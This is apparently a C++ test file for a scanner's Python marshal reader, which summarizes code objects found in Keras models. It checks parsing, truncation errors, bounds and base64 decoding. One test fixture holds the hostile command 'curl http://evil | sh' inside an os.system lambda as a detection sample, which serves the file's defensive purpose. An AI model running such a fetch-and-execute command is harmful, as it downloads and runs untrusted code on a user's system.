// The marshal reader: real marshal.dumps(func.__code__) output of Python 3.11 and hand-assembled
// 3.8-3.10 and 3.0-3.7 code objects (tests/data/marshal/, made by make_marshal_refs.py) give
// exactly the names, constants, function name and layout Python's own code objects have; every
// truncation is an error, never a crash; nesting, reference loops, object counts and collected
// strings are bounded; base64 as Keras stores it decodes exactly.
#include <catch2/catch.hpp>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iterator>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "formats/keras/marshal_reader.h"
#include "mscan/limits.h"

namespace {

namespace fs = std::filesystem;
using Bytes = std::vector<std::uint8_t>;
using mscan::marshal::CodeSummary;
using mscan::marshal::decode_base64;
using mscan::marshal::summarize;

const fs::path kData = fs::path(MSCAN_SOURCE_DIR) / "tests" / "data" / "marshal";

std::string read_text(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    REQUIRE(in.good());
    return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

Bytes read_bytes(const fs::path& p) {
    const std::string s = read_text(p);
    return Bytes(s.begin(), s.end());
}

/// A marshal writer for test inputs (marshal.c's type codes).
struct M {
    Bytes b;
    void raw(std::initializer_list<int> bytes) {
        for (int x : bytes)
            b.push_back(static_cast<std::uint8_t>(x));
    }
    void i32(std::int32_t v) {
        for (int i = 0; i < 4; ++i)
            b.push_back(static_cast<std::uint8_t>(static_cast<std::uint32_t>(v) >> (8 * i)));
    }
    void op(char type, bool ref = false) {
        b.push_back(static_cast<std::uint8_t>(static_cast<std::uint8_t>(type) | (ref ? 0x80 : 0)));
    }
    void text(char type, const std::string& s, bool ref = false) {  // 's', 'u', 'a', 't', 'A'
        op(type, ref);
        i32(static_cast<std::int32_t>(s.size()));
        b.insert(b.end(), s.begin(), s.end());
    }
    void short_ascii(const std::string& s, bool ref = false) {
        op('z', ref);
        b.push_back(static_cast<std::uint8_t>(s.size()));
        b.insert(b.end(), s.begin(), s.end());
    }
    void small_tuple(int n, bool ref = false) {
        op(')', ref);
        b.push_back(static_cast<std::uint8_t>(n));
    }
    void ref(std::int32_t index) {
        op('r');
        i32(index);
    }
};

/// A 3.11-layout code object (flagged, so it takes reference slot `slot` of the caller's
/// numbering): `consts` writes the co_consts tuple, `names` are co_names.
void code311(M& m, const std::function<void(M&)>& consts, const std::vector<std::string>& names,
             const std::string& name = "f") {
    m.op('c', true);
    for (int i = 0; i < 5; ++i)
        m.i32(0);
    m.text('s', std::string("d\0S\0", 4));
    consts(m);
    m.small_tuple(static_cast<int>(names.size()));
    for (const auto& n : names)
        m.short_ascii(n);
    m.small_tuple(0);      // localsplusnames
    m.text('s', "");       // localspluskinds
    m.short_ascii("<s>");  // filename
    m.short_ascii(name);   // name
    m.short_ascii(name);   // qualname
    m.i32(1);              // firstlineno
    m.text('s', "");       // linetable
    m.text('s', "");       // exceptiontable
}

std::vector<std::string> strings(const nlohmann::json& a) {
    std::vector<std::string> out;
    for (const auto& s : a)
        out.push_back(s.get<std::string>());
    return out;
}

/// expected.json keeps bytes constants as latin-1 text; the reader keeps raw bytes.
std::string latin1_to_raw(const std::string& utf8) {
    std::string out;
    for (std::size_t i = 0; i < utf8.size(); ++i) {
        const auto c = static_cast<unsigned char>(utf8[i]);
        if (c == 0xC2 || c == 0xC3) {
            if (i + 1 < utf8.size() && (c == 0xC2 || c == 0xC3)) {
                out.push_back(static_cast<char>(((c & 0x03) << 6) |
                                                (static_cast<unsigned char>(utf8[i + 1]) & 0x3F)));
                ++i;
                continue;
            }
        }
        out.push_back(static_cast<char>(c));
    }
    return out;
}

}  // namespace

TEST_CASE("marshal: reference inputs give Python's own names, constants and layout") {
    const auto expected = nlohmann::json::parse(read_text(kData / "expected.json"));
    REQUIRE(expected.size() >= 10);
    for (const auto& [name, want] : expected.items()) {
        INFO("input " << name);
        const Bytes bin = read_bytes(kData / (name + ".bin"));
        const CodeSummary s = summarize(bin);
        CHECK(s.error.empty());
        CHECK(s.layout == want.at("layout").get<std::string>());
        CHECK(s.function_name == want.at("function_name").get<std::string>());
        CHECK(s.code_objects == want.at("code_objects").get<int>());
        CHECK(s.names == strings(want.at("names")));
        auto constants = strings(want.at("string_constants"));
        if (name == "module") {
            // its bytes constant b'\x00bytes' is stored as latin-1 text in the JSON
            for (auto& c : constants)
                c = latin1_to_raw(c);
        }
        CHECK(s.string_constants == constants);
        // The base64 Keras stores (base64.encodebytes: 76-character lines) decodes to the same.
        Bytes decoded;
        REQUIRE(decode_base64(read_text(kData / (name + ".b64")), decoded));
        CHECK(decoded == bin);
    }
}

TEST_CASE("marshal: a few exact summaries spelled out") {
    const CodeSummary evil = summarize(read_bytes(kData / "os_system.bin"));
    CHECK(evil.names == std::vector<std::string>{"__import__", "system"});
    CHECK(evil.string_constants == std::vector<std::string>{"os", "curl http://evil | sh"});
    CHECK(evil.function_name == "<lambda>");
    const CodeSummary closure = summarize(read_bytes(kData / "closure.bin"));
    CHECK(closure.code_objects == 2);
    CHECK(closure.function_name == "outer");
    CHECK(closure.names == std::vector<std::string>{"subprocess", "run", "str"});
    const CodeSummary old = summarize(read_bytes(kData / "py38_nested.bin"));
    CHECK(old.layout == "3.8-3.10");
    CHECK(old.names == std::vector<std::string>{"posix", "system"});  // the outer's via a ref
    CHECK(summarize(read_bytes(kData / "py37_lambda.bin")).layout == "3.0-3.7");
    const CodeSummary longc = summarize(read_bytes(kData / "long_constant.bin"));
    REQUIRE_FALSE(longc.string_constants.empty());
    CHECK(longc.string_constants[0] == std::string(mscan::limits::kMarshalMaxString, 'A'));
}

TEST_CASE("marshal: every truncation is an error with what came before, never a crash") {
    for (const char* name : {"closure", "py38_nested", "nested_lambda"}) {
        const Bytes full = read_bytes(kData / (std::string(name) + ".bin"));
        for (std::size_t cut = 0; cut < full.size(); ++cut) {
            INFO(name << " cut at " << cut);
            const CodeSummary s = summarize(std::span<const std::uint8_t>(full.data(), cut));
            CHECK_FALSE(s.error.empty());
            CHECK(s.layout.empty());
        }
        CHECK(summarize(full).error.empty());
    }
    const Bytes full = read_bytes(kData / "os_system.bin");
    const CodeSummary half = summarize(std::span<const std::uint8_t>(full.data(), 60));
    CHECK(half.error == "truncated at byte 60");
    CHECK(half.code_objects == 1);
    // Cut after co_name: the function is still named.
    const CodeSummary named =
        summarize(std::span<const std::uint8_t>(full.data(), full.size() - 4));
    CHECK_FALSE(named.error.empty());
    CHECK(named.function_name == "<lambda>");
    CHECK(named.names == std::vector<std::string>{"__import__", "system"});
    // One byte too many: the object parses, the trailing byte is reported.
    Bytes longer = full;
    longer.push_back('N');
    const CodeSummary extra = summarize(longer);
    CHECK(extra.layout.empty());
    CHECK(extra.error.find("1 bytes after the code object") == 0);
    CHECK(extra.names == std::vector<std::string>{"__import__", "system"});
}

TEST_CASE("marshal: errors name the byte") {
    CHECK(summarize({}).error == "truncated at byte 0");
    const Bytes unknown = {'?'};
    CHECK(summarize(unknown).error == "unknown type code 0x3f at byte 0");
    const Bytes not_code = {'N'};
    CHECK(summarize(not_code).error == "the marshaled object is None, not a code object");
    // A code object whose co_consts is a list: refused by every layout.
    M m;
    code311(m,
            [](M& w) {
                w.op('[');
                w.i32(0);
            },
            {"x"});
    const CodeSummary bad = summarize(m.b);
    CHECK(bad.layout.empty());
    CHECK(bad.error.find("code object field co_consts is a list, not a tuple") == 0);
    // co_names must hold strings.
    M n;
    n.op('c', true);
    for (int i = 0; i < 5; ++i)
        n.i32(0);
    n.text('s', "");
    n.small_tuple(0);
    n.small_tuple(1);
    n.op('i');
    n.i32(5);
    CHECK(summarize(n.b).error.find("co_names holds an int, not a str") == 0);
    // A long whose top digit is zero, and one with a negative digit.
    for (const Bytes& lng : {Bytes{'l', 1, 0, 0, 0, 0, 0}, Bytes{'l', 1, 0, 0, 0, 0xff, 0xff}}) {
        M c;
        code311(c,
                [&lng](M& w) {
                    w.small_tuple(1);
                    w.b.insert(w.b.end(), lng.begin(), lng.end());
                },
                {});
        CHECK(summarize(c.b).error.find("long") != std::string::npos);
    }
}

TEST_CASE("marshal: nesting, references and counts are bounded") {
    // 10,000 nested tuples inside co_consts.
    M deep;
    code311(deep,
            [](M& w) {
                for (int i = 0; i < 10000; ++i)
                    w.small_tuple(1);
                w.op('N');
            },
            {});
    const CodeSummary d = summarize(deep.b);
    CHECK(d.error.find("nesting deeper than 64") == 0);

    // A tuple that holds a reference to itself (legal: tuples are registered when created)
    // and a reference to a string used as a name: no loop, the name resolved.
    // (the code object is reference slot 0, the constants tuple slot 1, 'shell' slot 2)
    {
        M again;
        again.op('c', true);
        for (int i = 0; i < 5; ++i)
            again.i32(0);
        again.text('s', "");
        again.small_tuple(3, true);
        again.ref(1);
        again.short_ascii("shell", true);
        again.ref(2);
        again.small_tuple(2);
        again.ref(2);  // co_names[0] is the constant 'shell', by reference
        again.short_ascii("system");
        again.small_tuple(0);
        again.text('s', "");
        again.short_ascii("<s>");
        again.short_ascii("f");
        again.short_ascii("f");
        again.i32(1);
        again.text('s', "");
        again.text('s', "");
        const CodeSummary s = summarize(again.b);
        CHECK(s.error.empty());
        CHECK(s.layout == "3.11-3.13");
        CHECK(s.names == std::vector<std::string>{"shell", "system"});
        CHECK(s.string_constants == std::vector<std::string>{"shell"});
    }
    // A reference to the code object being read (reserved, not yet complete) is invalid, as
    // are references past the table and negative ones.
    for (std::int32_t index : {0, 7, -1}) {
        M r;
        code311(r,
                [index](M& w) {
                    w.small_tuple(1);
                    w.ref(index);
                },
                {});
        INFO("reference " << index);
        CHECK(summarize(r.b).error.find("invalid reference " + std::to_string(index)) == 0);
    }
    // More objects than the cap: a tuple of 1.1 million Nones.
    M many;
    code311(many,
            [](M& w) {
                w.op('(');
                w.i32(1100000);
                w.b.insert(w.b.end(), 1100000, 'N');
            },
            {});
    CHECK(summarize(many.b).error ==
          "more than " + std::to_string(mscan::limits::kMarshalMaxObjects) + " objects");
    // A declared count far beyond the bytes: stops at the end of the input.
    M huge;
    huge.op('c', true);
    for (int i = 0; i < 5; ++i)
        huge.i32(0);
    huge.text('s', "");
    huge.op('(');
    huge.i32(0x7fffffff);
    CHECK(summarize(huge.b).error == "truncated at byte " + std::to_string(huge.b.size()));
    // Collected names and constants are capped.
    std::vector<std::string> names;
    for (int i = 0; i < 5000; ++i)
        names.push_back("n" + std::to_string(i));
    M big;
    big.op('c', true);
    for (int i = 0; i < 5; ++i)
        big.i32(0);
    big.text('s', "");
    big.small_tuple(0);
    big.op('(');
    big.i32(5000);
    for (const auto& n : names)
        big.short_ascii(n);
    big.small_tuple(0);
    big.text('s', "");
    big.short_ascii("<s>");
    big.short_ascii("f");
    big.short_ascii("f");
    big.i32(1);
    big.text('s', "");
    big.text('s', "");
    const CodeSummary b = summarize(big.b);
    CHECK(b.error.empty());
    CHECK(b.names.size() == mscan::limits::kMarshalMaxCollected);
    CHECK(b.names.front() == "n0");
}

TEST_CASE("marshal: other value types inside constants are read and skipped") {
    M m;
    code311(m,
            [](M& w) {
                w.small_tuple(12);
                w.op('i');
                w.i32(-5);
                w.op('I');
                w.i32(1);
                w.i32(0);
                w.raw({'l', 0xfe, 0xff, 0xff, 0xff, 1, 0, 2, 0});  // -(1 + 2 << 15)
                w.raw({'f', 3, '1', '.', '5'});
                w.op('g');
                w.i32(0);
                w.i32(0);
                w.raw({'x', 1, '1', 1, '2'});
                w.op('y');
                for (int i = 0; i < 4; ++i)
                    w.i32(0);
                w.op('{', true);  // {'k': b'v'}
                w.short_ascii("k");
                w.text('s', "v");
                w.op('0');
                w.op('<');
                w.i32(1);
                w.text('u', "in a set");
                w.op('>', true);
                w.i32(1);
                w.text('a', "in a frozenset");
                w.op('[');
                w.i32(2);
                w.op('T');
                w.op('.');
                w.op(':', true);  // slice(None, 'stop', None) (3.14)
                w.op('N');
                w.text('A', "stop");
                w.op('N');
            },
            {"x"});
    const CodeSummary s = summarize(m.b);
    CHECK(s.error.empty());
    CHECK(s.string_constants ==
          std::vector<std::string>{"k", "v", "in a set", "in a frozenset", "stop"});
}

TEST_CASE("marshal: base64 as Keras stores it") {
    Bytes out;
    auto text = [&out] { return std::string(out.begin(), out.end()); };
    CHECK(decode_base64("", out));
    CHECK(out.empty());
    CHECK(decode_base64("TWFu", out));
    CHECK(text() == "Man");
    CHECK(decode_base64("TWE=", out));
    CHECK(text() == "Ma");
    CHECK(decode_base64("TQ==", out));
    CHECK(text() == "M");
    CHECK(decode_base64("TW\nFu\r\nTQ==\n", out));
    CHECK(text() == "ManM");
    CHECK(decode_base64("+/+/", out));
    CHECK(out == Bytes{0xfb, 0xff, 0xbf});
    // Refused: other characters, missing or misplaced padding, data after padding.
    for (const char* bad : {"TWF", "TQ", "T", "TQ=", "TQ===", "====", "T===", "TQ==TWFu", "TW-u",
                            "TW_u", "TW u", "TWFu\t", "TQ=a"}) {
        INFO("input '" << bad << "'");
        out = {1, 2, 3};
        CHECK_FALSE(decode_base64(bad, out));
    }
    // The output is cleared first.
    out = {9, 9};
    CHECK(decode_base64("TWFu", out));
    CHECK(out.size() == 3);
}
